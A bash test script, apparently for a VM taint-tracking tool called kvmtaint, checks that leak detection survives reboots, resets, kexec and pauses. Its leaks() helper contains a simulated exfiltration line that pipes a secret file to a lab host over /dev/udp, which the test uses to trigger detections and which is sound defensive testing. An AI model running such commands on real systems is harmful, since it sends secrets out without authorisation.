# SPDX-License-Identifier: GPL-2.0
# shellcheck shell=bash
# In L1: one VM, one kvmtaint, many kernels. Lines as tests/run reads them.
set -u
tracer=
agent=

verdict() { # NAME STATUS WHY
	if [ "$2" = 0 ]; then echo "ok $1"; else echo "not ok $1: $3"; fi
}

records() { grep -c "$1" /tmp/records; }

# wait_for TEXT N SECONDS: until N records have TEXT.
wait_for() {
	local end=$((SECONDS + $3))
	until [ "$(records "$1")" -ge "$2" ]; do
		[ $SECONDS -lt $end ] && kill -0 "$tracer" 2>/dev/null || return 1
		sleep 0.05
	done
}

now() { date -u +%s.%N; }

# seconds TIME_OF_A_RECORD: as date +%s.%N.
stamp() { date -u -d "$1" +%s.%N; }

last() { grep "$1" /tmp/records | tail -1; }

trace() {
	kvmtaint --verbose --trap "$LAB_TRAP" --vm "$(cat /run/l2/pid)" --secret lab=/srv/secret/ >/tmp/records 2>/tmp/stderr &
	tracer=$!
}

end_trace() { # NAME
	kill -INT $tracer
	wait $tracer
	verdict "$1" $? "$(tail -1 /tmp/stderr)"
}

# leaks NAME FILE CHAIN: FILE leaves by UDP; its path must be CHAIN.
leaks() {
	local before
	before=$(records '"type":"leak"')
	guest "bash -c 'cat $2 >/dev/udp/10.9.0.1/9000'"
	wait_for '"type":"leak"' $((before + 1)) 20
	verdict "$1" $? "no leak record: $(tail -1 /tmp/records | cut -c1-300)"
}

# clean NAME: a process that touches nothing classified leaks nothing.
clean() {
	local before
	before=$(records '"type":"leak"')
	guest "bash -c 'cat /etc/hostname >/dev/udp/10.9.0.1/9000'"
	sleep 0.5
	[ "$(records '"type":"leak"')" = "$before" ]
	verdict "$1" $? "$(last '"type":"leak"' | cut -c1-300)"
}

# A kernel's head_64.S enables SYSCALL (EFER.SCE), a moment before it says where: KVM sees that
# on AMD too, LSTAR itself it does not.
msrs=/sys/kernel/tracing/events/kvm/kvm_msr
echo mono >/sys/kernel/tracing/trace_clock
echo 'write == 1 && ecx == 0xc0000080 && data & 1' >$msrs/filter
echo 1 >$msrs/enable

# noticed NAME: the kernel before was given up in time: within a second after it said where, which
# in the emulator is up to four after that.
noticed() {
	local setup seconds
	setup=$(sed -nE 's/.* ([0-9]+[.][0-9]+): kvm_msr: .*/\1/p' /sys/kernel/tracing/trace | head -1)
	: >/sys/kernel/tracing/trace
	seconds=$(awk "BEGIN { printf \"%.3f\", $(stamp "$(last '"event":"gone"' | sed 's/.*"time":"\([^"]*\)".*/\1/')") - ${setup:-0} - $(
		python3 -c 'import time; print(time.time() - time.monotonic())') }")
	echo "# $1: noticed $seconds s after the kernel's first instructions"
	awk "BEGIN { exit !(${setup:-0} && $seconds <= 5) }"
	verdict "$1-noticed-in-time" $? "after $seconds s, ${setup:-no EFER was written}"
}

# kernel NAME N: the Nth kernel is armed; the file that was managed before still is, processes are not.
kernel() {
	local name=$1 armed=$2 gone managed
	wait_for '"event":"armed"' "$armed" 120
	verdict "$name-armed" $? "$(tail -2 /tmp/stderr | tr '\n' ' ')"
	l2 await
	agent=$(now)
	[ "$name" = boot ] && : >/sys/kernel/tracing/trace || noticed "$name"
	echo "# $name: $(last '"event":"armed"' | sed 's/.*"guest":\({[^}]*}\).*/\1/'), armed $(
		awk "BEGIN { printf \"%.1f\", $agent - $(stamp "$(last '"event":"armed"' | sed 's/.*"time":"\([^"]*\)".*/\1/')") }") s before the agent answered, held $(
		last '"event":"armed"' | sed 's/.*"held_ns":\([0-9]*\).*/\1/') ns"
	managed=$(bpftool map dump pinned "/sys/fs/bpf/kvmtaint/$(cat /run/l2/pid)/processes" | grep -c '"pid"')
	# Without a hook on exit, the process that read the secret on the first kernel is still there.
	[ "$managed" = 0 ] || { [ "$name" = boot ] && [ "$LAB_TRAP" = shim-hooks ]; }
	verdict "$name-no-process-is-managed" $? "$managed processes are"
	leaks "$name-kept-file-leaks" /srv/kept
	leaks "$name-secret-leaks" /srv/secret/a
	clean "$name-clean"
	gone=$(records '"event":"gone"')
	echo "# $name: gone records $gone, lost $(records '"type":"lost"')"
}

# The other kernel, for kexec, on a disk of its own.
mkdir /tmp/kernels
cp /job/l2/vmlinuz /job/l2/initrd /job/l2/other.vmlinuz /job/l2/other.initrd /tmp/kernels
mke2fs -q -t ext4 -d /tmp/kernels /tmp/kernels.ext4 128M
kernels="-drive if=none,id=kernels,format=raw,file=/tmp/kernels.ext4,readonly=on -device virtio-blk-device,drive=kernels,serial=kernels"

# kexec_into IMAGE [WORD...]: the guest jumps into /tmp/kernels/IMAGE.
kexec_into() {
	local image=$1
	shift
	guest "mkdir -p /run/kernels; mount -o ro \$(grep -slx kernels /sys/block/vd*/serial | sed 's,/sys/block/\(.*\)/serial,/dev/\1,') /run/kernels
		sync; kexec -c -l /run/kernels/${image}vmlinuz --initrd=/run/kernels/${image}initrd \
			--append='console=ttyS0 loglevel=4 rdinit=/init $*' && (sleep 0.5; kexec -e) >/dev/null 2>&1 & sleep 0.3"
}

l2 stop

# --- started before the guest: not one instruction has run
# shellcheck disable=SC2086 # words
l2 start -S $kernels &
starting=$!
until [ -s /run/l2/pid ]; do sleep 0.1; done
sleep 0.5
kvmtaint --no-wait --vm "$(cat /run/l2/pid)" --secret lab=/srv/secret/ >/tmp/out 2>&1
status=$?
[ $status = 11 ]
verdict no-wait $? "status $status: $(cat /tmp/out)"
trace
wait_for '"type":"start"' 1 30
verdict start-before-boot $? "$(cat /tmp/stderr)"
! grep '"type":"start"' /tmp/records | grep -q '"guest"'
verdict start-has-no-guest $? "$(head -1 /tmp/records | cut -c1-200)"
l2 qmp cont >/dev/null
wait_for '"event":"armed"' 1 120
verdict boot-armed $? "$(tail -2 /tmp/stderr | tr '\n' ' ')"
wait $starting
guest 'mkdir -p /srv/secret; echo x >/srv/secret/a; bash -c "cat /srv/secret/a >/srv/kept"; sync'
kernel boot 1

# --- a trap of the text that somebody writes over (while RAM holds one kernel and no dead ones)
if [ "$LAB_TRAP" = patch ]; then
	python3 "$IN/host.py" unplant "$(cat /run/l2/pid)" 1
	wait_for '"event":"changed"' 1 10
	verdict changed-trap-told $? "$(tail -1 /tmp/stderr)"
	last '"event":"changed"' | grep -q '"planted":true'
	verdict changed-trap-planted $? "$(last '"event":"changed"')"
	[ "$(python3 "$IN/host.py" traps "$(cat /run/l2/pid)")" = "$(grep '"event":"armed"' /tmp/records | tail -1 | grep -o '"name":"[a-z_0-9]*","address"' | wc -l)" ]
	verdict changed-trap-is-there $? "$(python3 "$IN/host.py" traps "$(cat /run/l2/pid)") traps"
	leaks changed-trap-leaks /srv/kept
fi

# --- the guest reboots
guest 'sync; (sleep 0.5; systemctl reboot -ff) >/dev/null 2>&1 & sleep 0.2'
wait_for '"event":"gone"' 1 60; verdict reboot-gone $? "no gone record"
kernel reboot 2

# --- the operator resets
guest sync
l2 qmp system_reset >/dev/null
wait_for '"event":"gone"' 2 60; verdict reset-gone $? "no gone record"
kernel reset 3

# --- kexec: another kernel, that one again, and twice to the same place
kexec_into other.
wait_for '"event":"gone"' 3 60; verdict kexec-gone $? "no gone record"
kernel kexec 4
kexec_into other.
wait_for '"event":"gone"' 4 60; verdict kexec-same-image-gone $? "no gone record"
kernel kexec-same-image 5
kexec_into '' nokaslr
wait_for '"event":"gone"' 5 60; verdict kexec-nokaslr-gone $? "no gone record"
kernel kexec-nokaslr 6
kexec_into '' nokaslr
wait_for '"event":"gone"' 6 60; verdict kexec-nokaslr-same-image-gone $? "no gone record"
kernel kexec-nokaslr-same-image 7

# --- paused and resumed: nothing happens
before=$(records '"type":"guest"')
l2 qmp stop >/dev/null
sleep 3
l2 qmp cont >/dev/null
leaks paused-and-resumed /srv/kept
[ "$(records '"type":"guest"')" = "$before" ]
verdict pause-is-no-event $? "$(last '"type":"guest"' | cut -c1-300)"

# --- the VM's end
kill "$(cat /run/l2/pid)"
wait $tracer
verdict vm-end $? "$(tail -1 /tmp/stderr)"
tail -1 /tmp/records | grep -q '"reason":"vm_gone"'
verdict vm-end-stop $? "$(tail -1 /tmp/records | cut -c1-200)"
grep '"type":"lost"' /tmp/records | grep -v trap_changed | cut -c1-300 | sed 's/^/# /'
python3 - <<'CHECK'
import json, jsonschema
check = jsonschema.Draft202012Validator(json.load(open("/job/kvmtaint/record.schema.json")))
wrong = []
for n, line in enumerate(open("/tmp/records"), 1):
    record = json.loads(line)
    wrong += [f"seq {record['seq']}: {error.message[:150]}" for error in check.iter_errors(record)]
    if record["seq"] != n:
        wrong.append(f"line {n} has seq {record['seq']}")
print("not ok schema-and-seq: " + wrong[0] if wrong else "ok schema-and-seq")
CHECK
cp /tmp/records /tmp/stderr "$OUT"
echo "ok whole"
